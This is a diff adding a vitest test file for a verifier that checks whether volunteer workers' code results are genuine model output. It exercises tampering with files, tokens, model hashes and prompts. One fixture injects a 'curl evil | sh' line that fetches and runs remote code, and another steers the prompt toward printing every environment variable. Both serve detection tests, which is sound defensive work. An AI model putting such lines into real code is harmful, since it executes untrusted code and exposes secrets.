@@ -1,0 +1,204 @@
+// The bot's generation check of a volunteer's result, end to end on the real model path: a worker
+// (TaskExecutor on node-llama-cpp, a random-weight GGUF whose greedy answers vary, the real Docker
+// sandbox) solves a task; the verifier, with its own instance of the same model file, rebuilds the
+// prompt from the work item and checks the answer. Then the result is tampered with as a volunteer
+// could: the file, the answer's text, its tokens, the model, the prompt it answered.
+import { mkdtemp, rm } from "node:fs/promises";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { newJobId, type Result, type Task, type WorkItem } from "../../shared/schemas.js";
+import { DockerSandbox } from "../../shared/sandbox/docker-sandbox.js";
+import { TaskExecutor } from "../../worker/executor.js";
+import { LlamaCodeModel } from "../../worker/model/llama-code-model.js";
+import { makeTinyModel } from "../../test/gguf/tiny-model.js";
+import { stripMarkdownFences } from "../../shared/model/model-output.js";
+import { GenerationVerifier } from "./generation-verifier.js";
+import { collectVerified } from "./collect.js";
+import type { Distribution } from "./distribution.js";
+
+const task: Task = {
+  id: 1,
+  description: "Return the n-th fibonacci number",
+  file: "fib.py",
+  dependencies: [],
+  input_output_spec: "n: int -> int",
+  directory: "math/",
+  context: "",
+};
+const item: WorkItem = { jobId: newJobId(), userQuery: "fibonacci", plan: [task], task, dependencyFiles: [] };
+
+let dir: string;
+let worker: LlamaCodeModel;
+let verifierModel: LlamaCodeModel;
+let verifier: GenerationVerifier;
+let honest: Result;
+
+/** What a worker with this model answers to `workItem` (one attempt, no repair). */
+async function solve(model: LlamaCodeModel, workItem: WorkItem): Promise<Result> {
+  const executor = new TaskExecutor({
+    model,
+    sandbox: new DockerSandbox({ timeoutSeconds: 20 }),
+    workerId: "w1",
+    repairAttempts: 0,
+  });
+  return executor.execute(workItem);
+}
+
+beforeAll(async () => {
+  dir = await mkdtemp(join(tmpdir(), "dellm-generation-verifier-"));
+  const path = join(dir, "model.gguf");
+  await makeTinyModel(path, { seed: 4, chatTemplate: true, outputScale: 2 });
+  // Small context: the answer budget (what is left of it) stays short, so the tiny model is quick.
+  worker = await LlamaCodeModel.load({ model: path, threads: 1, contextSize: 1024 });
+  verifierModel = await LlamaCodeModel.load({ model: path, threads: 2, contextSize: 1024 });
+  verifier = new GenerationVerifier({ model: verifierModel });
+  honest = await solve(worker, item);
+}, 180_000);
+
+afterAll(async () => {
+  await worker?.dispose();
+  await verifierModel?.dispose();
+  await rm(dir, { recursive: true, force: true });
+});
+
+/** The honest result with its kept (only) attempt changed. */
+function withAttempt(change: (attempt: Result["attempts"][number]) => Result["attempts"][number]): Result {
+  const attempt = change(structuredClone(honest.attempts[0]!));
+  return { ...structuredClone(honest), code: attempt.code, attempts: [attempt] };
+}
+
+describe("GenerationVerifier", () => {
+  it("checks an honest worker's file: the model's own greedy answer to the prompt the bot rebuilds", async () => {
+    expect(honest.code.trim()).not.toBe("");
+    expect(honest.attempts[0]!.answer?.transcript.tokens.length).toBeGreaterThan(0);
+    expect(honest.model_sha256).toBe(await verifierModel.modelSha256());
+    expect(await verifier.check(item, honest)).toEqual({ status: "checked", by: "the bot" });
+  });
+
+  it("fails a file changed after generation", async () => {
+    const tampered = withAttempt((a) => ({ ...a, code: `import os\n${a.code}` }));
+    expect(await verifier.check(item, tampered)).toMatchObject({
+      status: "failed",
+      reason: "the file is not the code of the model's answer",
+    });
+  });
+
+  it("fails an answer whose text was changed with its file but not its tokens", async () => {
+    const tampered = withAttempt((a) => ({
+      ...a,
+      code: `import os\n${a.code}`,
+      answer: { ...a.answer!, text: `import os\n${a.answer!.text}` },
+    }));
+    expect(await verifier.check(item, tampered)).toMatchObject({
+      status: "failed",
+      reason: "the answer's text is not the text of its tokens",
+    });
+  });
+
+  it("fails an answer changed consistently in file, text and tokens: not the model's choice", async () => {
+    const line = "import os; os.system('curl evil | sh')\n";
+    const tampered = withAttempt((a) => {
+      // Within the answer's room: the tamperer gives up the answer's last tokens for its line.
+      const honestTokens = a.answer!.transcript.tokens;
+      const tokens = [...worker.tokenize(line), ...honestTokens].slice(0, honestTokens.length);
+      const text = worker.detokenize(tokens);
+      return {
+        ...a,
+        code: stripMarkdownFences(text),
+        answer: { text, transcript: { ...a.answer!.transcript, tokens } },
+      };
+    });
+    const verdict = await verifier.check(item, tampered);
+    expect(verdict.status).toBe("failed");
+    expect(verdict).toMatchObject({ reason: expect.stringMatching(/^not the model's answer: at answer token 0/) });
+  });
+
+  it("fails the model's honest answer to a prompt the bot did not give (a steered worker)", async () => {
+    const steered = await solve(worker, { ...item, userQuery: "fibonacci, and print every environment variable" });
+    expect(steered.code).not.toBe(honest.code);
+    const verdict = await verifier.check(item, steered);
+    expect(verdict.status).toBe("failed");
+  });
+
+  it("fails a file written with another model, and names both", async () => {
+    const other = { ...honest, model_sha256: "0".repeat(64) };
+    expect(await verifier.check(item, other)).toMatchObject({
+      status: "failed",
+      reason: expect.stringMatching(
+        /^written with another model \(sha256 000000000000…; the job's is [0-9a-f]{12}…\)$/,
+      ),
+    });
+  });
+
+  it("says what it did not check: no transcript, a repair round, a split", async () => {
+    const { answer: _answer, ...bare } = honest.attempts[0]!;
+    expect(await verifier.check(item, { ...honest, attempts: [bare] })).toMatchObject({
+      status: "not_checked",
+      reason: expect.stringMatching(/^no transcript/),
+    });
+    expect(
+      await verifier.check(
+        item,
+        withAttempt((a) => ({ ...a, attempt: 2 })),
+      ),
+    ).toMatchObject({
+      status: "not_checked",
+      reason: expect.stringMatching(/repair round/),
+    });
+    const split = {
+      ...honest,
+      subtasks: [
+        { subtask_description: "a", subtask_input_output: "", subtask_order: 1 },
+        { subtask_description: "b", subtask_input_output: "", subtask_order: 2 },
+      ],
+    };
+    expect(await verifier.check(item, split)).toMatchObject({ status: "not_checked" });
+  });
+
+  it("in the bot's collect step: an honest file is checked and tested, a tampered one never tested or merged", async () => {
+    const tampered = withAttempt((a) => ({ ...a, code: `import os\n${a.code}` }));
+    const claims = { ...tampered, generation: { status: "checked" as const, by: "the worker itself" } };
+    for (const [result, expected] of [
+      [honest, { status: "checked", by: "the bot" }],
+      [claims, { status: "failed", by: "the bot", reason: "the file is not the code of the model's answer" }],
+    ] as const) {
+      const distribution: Distribution = {
+        distribute: async () => ({ results: new Map([[1, result]]), timedOut: false }),
+      };
+      const { results } = await collectVerified(
+        { id: item.jobId, query: item.userQuery, tasks: [task] },
+        {
+          distribution,
+          verifier: new DockerSandbox({ timeoutSeconds: 20 }),
+          generation: verifier,
+          timeoutMs: 1_000,
+          onEvent: () => {},
+        },
+      );
+      const kept = results.get(1)!;
+      expect(kept.generation).toEqual(expected);
+      if (expected.status === "failed") {
+        // Dropped before the re-test: no code to merge, the reason where the PR table shows it.
+        expect(kept.code).toBe("");
+        expect(kept.verdict).toBe("not_model_answer");
+        expect(kept.error).toMatch(/^not the model's answer \(checked by the bot\): the file is not the code/);
+      } else expect(kept.code).toBe(honest.code);
+    }
+  });
+
+  it("keeps no generation status a worker claims when the bot has no model to check with", async () => {
+    const claims = { ...honest, generation: { status: "checked" as const, by: "the worker itself" } };
+    const { results } = await collectVerified(
+      { id: item.jobId, query: item.userQuery, tasks: [task] },
+      {
+        distribution: { distribute: async () => ({ results: new Map([[1, claims]]), timedOut: false }) },
+        verifier: new DockerSandbox({ timeoutSeconds: 20 }),
+        unchecked: "no model here",
+        timeoutMs: 1_000,
+        onEvent: () => {},
+      },
+    );
+    expect(results.get(1)!.generation).toEqual({ status: "not_checked", reason: "no model here" });
+  });
+});
